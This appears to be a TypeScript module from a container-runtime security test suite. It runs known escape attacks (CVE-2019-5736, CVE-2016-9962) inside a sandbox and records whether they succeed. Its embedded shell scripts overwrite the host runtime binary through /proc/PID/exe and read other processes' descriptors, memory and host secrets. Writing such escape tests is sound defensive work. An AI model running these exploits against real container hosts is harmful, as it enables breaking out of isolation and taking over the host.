/** The runtime's own program, its memory and its descriptors, as a container can reach them. */
import { chmodSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Arena, type Attack, shortly } from '../arena.ts';

/**
 * A process of the image that waits for others to come: of each it opens the executable, and writes to it as soon as it is
 * no longer executed. It notes what it opened and what became of the writing.
 */
const thief = `
cd /; : > /loot; echo ready > /ready
while :; do
  for p in /proc/[0-9]*; do
    case $p in /proc/1|/proc/$$) continue ;; esac
    exe=$(readlink $p/exe 2>/dev/null) || continue
    case $exe in */busybox|'') continue ;; esac
    (
      exec 3<$p/exe || exit
      echo "opened $exe" >> /loot
      i=0; while [ $i -lt 200 ]; do i=$((i+1)); echo '#!/bin/sh' 2>/dev/null > /proc/self/fd/3 && { echo "wrote $exe" >> /loot; exit; }; done
    ) 2>/dev/null
  done
done`;

/** The image's interpreter is whatever the process is that executes it. */
function interpretBySelf(arena: Arena): void {
  const path = join(arena.rootfs, 'self');
  writeFileSync(path, '#!/proc/self/exe\n');
  chmodSync(path, 0o755);
}

async function withWatcher(arena: Arena, script: string, act: (id: string) => void): Promise<string> {
  for (const name of ['ready', 'loot']) rmSync(join(arena.rootfs, name), { force: true });
  const id = arena.start(script);
  for (let round = 0; round < 200 && !arena.read('ready'); round += 1) await sleep(10);
  for (let round = 0; round < 8; round += 1) act(id);
  await sleep(300);
  arena.stop(id);
  return arena.read('loot');
}

export const engineAttacks: readonly Attack[] = [
  {
    name: 'overwrite the runtime through /proc/PID/exe of an exec',
    known: 'CVE-2019-5736',
    async act(arena) {
      const before = arena.engineDigest();
      interpretBySelf(arena);
      const loot = await withWatcher(arena, thief, (id) => {
        arena.exec(id, '/self');
        arena.exec(id, 'true');
      });
      const escaped = arena.engineDigest() !== before || /wrote/.test(loot);
      return { escaped, what: escaped ? 'overwritten' : loot === '' ? 'nothing to open' : 'opened, not written' };
    },
  },
  {
    name: 'overwrite it from the entry point of an image',
    known: 'CVE-2019-5736',
    act(arena) {
      const before = arena.engineDigest();
      interpretBySelf(arena);
      const id = arena.sandbox.id();
      const bundle = arena.sandbox.bundle((spec) => (spec.process.args = ['/self']));
      const outcome = arena.sandbox.run(['run', '-b', bundle, id]);
      const escaped = arena.engineDigest() !== before || outcome.code === 0;
      return { escaped, what: shortly(outcome) };
    },
  },
  {
    name: 'look into the joining process: its descriptors, root, memory',
    known: 'CVE-2016-9962',
    async act(arena) {
      const spy = `
cd /; : > /loot; echo ready > /ready
while :; do
  for p in /proc/[0-9]*; do
    case $p in /proc/1|/proc/$$) continue ;; esac
    case $(readlink $p/exe 2>/dev/null) in */busybox) continue ;; esac
    for f in $p/fd/* $p/root $p/cwd; do
      case $f in */fd/[012]) continue ;; esac
      link=$(readlink $f 2>/dev/null) || continue
      case $link in *${arena.sandbox.directory.slice(5)}*|*cgroup*|*memfd*|*state.json*) echo "$f $link" >> /loot ;; esac
      cat $f/${arena.outside}/secret >> /loot 2>/dev/null
    done
    dd if=$p/mem bs=1 count=1 2>/dev/null && echo "read $p/mem" >> /loot
  done
done`;
      const loot = await withWatcher(arena, spy, (id) => arena.exec(id, 'true'));
      return {
        escaped: loot !== '',
        what: loot === '' ? 'nothing to be seen' : (loot.split('\n')[0] ?? '').slice(0, 60),
      };
    },
  },
];
